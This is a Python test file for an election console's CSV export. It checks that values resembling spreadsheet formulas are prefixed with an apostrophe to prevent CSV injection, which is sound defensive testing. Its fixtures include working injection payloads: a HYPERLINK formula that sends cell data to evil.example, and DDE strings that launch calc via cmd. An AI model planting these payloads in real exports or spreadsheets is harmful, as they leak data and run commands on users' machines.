"""`meibo console export --format csv`: a clerk id, carrier or signal text a terminal sent that
starts like a formula is written with a leading ' (OWASP "CSV Injection"); numbers meibo counted
itself stay numbers."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime

from ground.clock import JST
from ground.events import EventKind
from hq import records
from hq.records import HqFacts, RecordsLedger
from ui_kivy.console.demo import EventMaker, demo_config
from cli.console import table_csv

DAY = datetime(2027, 4, 25, 9, 0, tzinfo=JST)
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"詳細")'


def _cells(t: records.Table) -> list[dict[str, str]]:
    rows = list(csv.reader(io.StringIO(table_csv(t).decode("utf-8-sig"))))
    return [dict(zip(t.keys, r)) for r in rows[1:]]


def _ledger() -> tuple[RecordsLedger, EventMaker]:
    ledger = RecordsLedger("yokohama-2027")
    mk = EventMaker(ledger)
    mk.terminal("T1", "D01")
    mk.terminal("T2", "C01")
    return ledger, mk


def test_checkins_export_defuses_a_hostile_clerk_id() -> None:
    ledger, mk = _ledger()
    mk.checkin("T1", "D01", "1", DAY, ["governor"], clerk=EVIL)
    mk.checkin("T1", "D01", "2", DAY.replace(minute=5), ["governor"], clerk="@SUM(1+1)*cmd|' /C calc'!A0")
    t = records.export_table("checkins", ledger, demo_config(), HqFacts(), DAY.date())
    cells = _cells(t)
    assert [c["clerk"] for c in cells] == ["'" + EVIL, "'@SUM(1+1)*cmd|' /C calc'!A0"]
    assert cells[0]["seq"] == "1" and cells[0]["voter"] == "1"  # the rest is untouched


def test_stations_export_defuses_a_hostile_carrier_and_signal_text() -> None:
    ledger, mk = _ledger()
    mk.checkin("T1", "D01", "1", DAY, ["governor"])
    facts = HqFacts(contacts={"T1": (DAY.timestamp(), "127.0.0.1", json.dumps({"bars": 3, "carrier": EVIL})),
                              "T2": (DAY.timestamp(), "127.0.0.1", "+cmd|' /C calc'!A0")})
    t = records.export_table("stations", ledger, demo_config(), facts, DAY.date())
    by_terminal = {c["terminal"]: c for c in _cells(t)}
    assert by_terminal["T1"]["carrier"] == "'" + EVIL and by_terminal["T1"]["signal"] == "3/5"
    assert by_terminal["T2"]["signal"] == "'+cmd|' /C calc'!A0"
    assert by_terminal["T1"]["checkins_total"] == "1"


def test_alerts_export_defuses_a_hostile_clerk_and_note_keeps_numbers() -> None:
    ledger, mk = _ledger()
    mk.checkin("T1", "D01", "9", DAY, ["governor"], clerk="-2+3")
    ev = mk.checkin("T2", "C01", "9", DAY.replace(minute=30), ["governor"], clerk="\tk2")
    mk.emit("T2", EventKind.PROVISIONAL, DAY.replace(minute=30), {"ref": ev.seq})  # offline: both ballots stand
    facts = HqFacts(alert_history={1: [{"state": "investigating", "who": "=1+1", "at": "2027-04-25T09:40:00+09:00",
                                        "note": "\r=cmd"}]})
    t = records.export_table("alerts", ledger, demo_config(), facts, DAY.date())
    cells = _cells(t)
    assert [c["clerk"] for c in cells] == ["'-2+3", "'\tk2"]
    assert {c["last_who"] for c in cells} == {"'=1+1"} and {c["last_note"] for c in cells} == {"'\r=cmd"}
    assert [c["ballot_no"] for c in cells] == ["1", "2"] and cells[0]["active"] == "はい"
